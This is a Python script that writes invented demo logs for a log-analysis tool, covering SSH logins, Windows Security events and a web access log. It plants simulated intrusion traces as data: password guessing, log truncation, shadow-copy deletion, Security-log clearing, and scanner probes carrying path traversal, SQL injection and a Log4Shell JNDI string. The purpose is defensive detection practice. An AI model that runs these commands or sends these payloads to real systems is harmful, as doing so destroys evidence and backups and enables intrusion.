"""Writes the logs that `samlog demo` reads: a quiet morning of three units, and what breaks it.

Everything is invented: documentation addresses (RFC 5737), no real host, user or log line.
Repeating it writes the same bytes.
"""

import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson

FOLDER = Path(__file__).parents[1] / "samlog" / "demo"
START = datetime(2026, 1, 10, 12, 30, tzinfo=UTC)
USERS = ("anna", "bjørn", "carla", "dagfinn", "eva", "frede", "gro", "håkon")
PAGES = (
    "/",
    "/borger/selvbetjening",
    "/dagtilbud",
    "/om-kommunen",
    "/css/site.css",
    "/favicon.ico",
)


def linux(dice: random.Random) -> list[str]:
    """Returns auth.log of unit A: logins, sudo, and someone who guesses passwords."""
    lines = []
    for minute in range(110):
        moment = START + timedelta(minutes=minute, seconds=dice.randrange(50))
        stamp = f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} web1"
        user, pid = dice.choice(USERS), dice.randrange(600, 9000)
        port = dice.randrange(40000, 60000)
        lines.append(
            f"{stamp} sshd[{pid}]: Accepted publickey for {user} from "
            f"192.0.2.{dice.randrange(10, 60)} port {port} ssh2: "
            f"ED25519 SHA256:{dice.randbytes(12).hex()}"
        )
        lines.append(
            f"{stamp} sshd[{pid}]: pam_unix(sshd:session): session opened for user {user} "
            "by (uid=0)"
        )
        if minute % 7 == 0:
            lines.append(
                f"{stamp} sudo: {user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
                "COMMAND=/usr/bin/systemctl status nginx"
            )
        if minute % 5 == 0:
            lines.append(f"{stamp} CRON[{pid}]: (root) CMD (/usr/local/bin/backup --nightly)")
    attack = START + timedelta(minutes=67)
    for number in range(12):
        moment = attack + timedelta(seconds=number * 3.4)
        stamp = f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} web1"
        lines.append(
            f"{stamp} sshd[{811 + number}]: Failed password for invalid user admin "
            f"from 203.0.113.7 port {40112 + number} ssh2"
        )
    moment = attack + timedelta(minutes=2)
    stamp = f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} web1"
    lines.append(f"{stamp} sshd[901]: Accepted password for root from 203.0.113.7 port 40190 ssh2")
    lines.append(
        f"{stamp} sudo:     root : TTY=pts/3 ; PWD=/tmp ; USER=root ; "
        "COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log"
    )
    return lines


def windows_event(moment: datetime, code: int, record: int, data: dict[str, str]) -> str:
    """Returns one Security event as Winlogbeat ships it."""
    provider = PROVIDERS.get(code, AUDITING)
    return orjson.dumps(
        {
            "@timestamp": moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "winlog": {
                "channel": "Security",
                "event_id": str(code),
                "event_data": data,
                "computer_name": "dc1.enhedb.example",
                "provider_name": provider,
                "record_id": record,
                "api": "wineventlog",
            },
            "agent": {"type": "winlogbeat", "version": "8.19.0"},
            "event": {"code": str(code), "kind": "event", "provider": provider},
            "host": {"name": "dc1.enhedb.example"},
        }
    ).decode()


AUDITING = "Microsoft-Windows-Security-Auditing"
PROVIDERS = {1102: "Microsoft-Windows-Eventlog"}
SUBJECT = {"SubjectDomainName": "ENHEDB", "SubjectLogonId": "0x3e7", "SubjectUserSid": "S-1-5-18"}


def process(image: str, command: str, parent: str, user: str) -> dict[str, str]:
    """Returns the event data of 4688."""
    return {
        "CommandLine": command,
        "NewProcessName": image,
        "ParentProcessName": parent,
        "SubjectUserName": user,
        "NewProcessId": "0x1a2c",
        "TokenElevationType": "%%1936",
    } | SUBJECT


def windows(dice: random.Random) -> list[str]:
    """Returns Security events of unit B: logons, processes, and an intruder."""
    system32 = "C:\\Windows\\System32\\"
    events: list[tuple[datetime, int, dict[str, str]]] = []
    for minute in range(110):
        moment = START + timedelta(minutes=minute, seconds=dice.randrange(50))
        user = dice.choice(USERS)
        logon = {
            "TargetUserName": user,
            "TargetDomainName": "ENHEDB",
            "LogonType": "3",
            "IpAddress": f"192.0.2.{dice.randrange(100, 200)}",
            "IpPort": str(dice.randrange(50000, 60000)),
            "LogonProcessName": "Kerberos",
            "AuthenticationPackageName": "Kerberos",
        }
        events.append((moment, 4624, SUBJECT | {"SubjectUserName": "-"} | logon))
        quiet = process(
            system32 + "svchost.exe",
            system32 + "svchost.exe -k netsvcs -p -s Schedule",
            system32 + "services.exe",
            "DC1$",
        )
        events.append((moment + timedelta(seconds=2), 4688, quiet))
    attack = START + timedelta(minutes=71)
    cmd, powershell = system32 + "cmd.exe", system32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    encoded = "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AbgBvAHAAIAAtAHcAIABoAGkAZABkAGUAbgA="
    steps = [
        (powershell, f"powershell.exe -NoP -W Hidden -EncodedCommand {encoded}", cmd),
        (system32 + "whoami.exe", "whoami /all", powershell),
        (system32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", powershell),
        (system32 + "wevtutil.exe", "wevtutil.exe cl Security", powershell),
    ]
    for number, (image, command, parent) in enumerate(steps):
        moment = attack + timedelta(seconds=40 * number)
        events.append((moment, 4688, process(image, command, parent, "bjørn")))
    cleared = {"SubjectUserName": "bjørn", "SubjectDomainName": "ENHEDB", "SubjectLogonId": "0x9f1"}
    events.append((attack + timedelta(minutes=4), 1102, cleared))
    events.sort(key=lambda event: event[0])
    return [windows_event(at, code, 7001 + n, data) for n, (at, code, data) in enumerate(events)]


def web(dice: random.Random) -> list[str]:
    """Returns the access log of unit C: citizens, and a scanner."""
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    rows: list[tuple[datetime, str]] = []
    for _ in range(640):
        moment = START + timedelta(seconds=dice.randrange(6600))
        rows.append(
            (
                moment,
                f"198.51.100.{dice.randrange(2, 250)} - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "
                f'"GET {dice.choice(PAGES)} HTTP/1.1" 200 {dice.randrange(400, 90000)} '
                f'"-" "{agent}"',
            )
        )
    tries = (
        ("/cgi-bin/../../../../etc/passwd", 404),
        ("/index.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", 200),
        ("/?x=${jndi:ldap://203.0.113.66/a}", 400),
        ("/.git/config", 404),
    )
    for number, (path, status) in enumerate(tries * 3):
        moment = START + timedelta(minutes=80, seconds=number * 2)
        rows.append(
            (
                moment,
                f"203.0.113.66 - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "
                f'"GET {path} HTTP/1.1" {status} 162 "-" "sqlmap/1.8#stable (https://sqlmap.org)"',
            )
        )
    rows.sort(key=lambda row: row[0])
    return [text for _, text in rows]


def main() -> None:
    dice = random.Random(20260110)
    FOLDER.mkdir(parents=True, exist_ok=True)
    damaged = [
        bytes(range(11, 24)) + b"\x00\x00\xff\xfe",
        b"\x00" * 40,
        b"\x1f\x8b\x08\x00\x00\x00",
    ]
    auth = "\n".join(linux(dice)).encode() + b"\n" + b"\n".join(damaged) + b"\n"
    (FOLDER / "enheda-auth.log").write_bytes(auth)
    (FOLDER / "enhedb-security.ndjson").write_text("\n".join(windows(dice)) + "\n", "utf-8")
    (FOLDER / "enhedc-access.log").write_text("\n".join(web(dice)) + "\n", "utf-8")


if __name__ == "__main__":
    main()
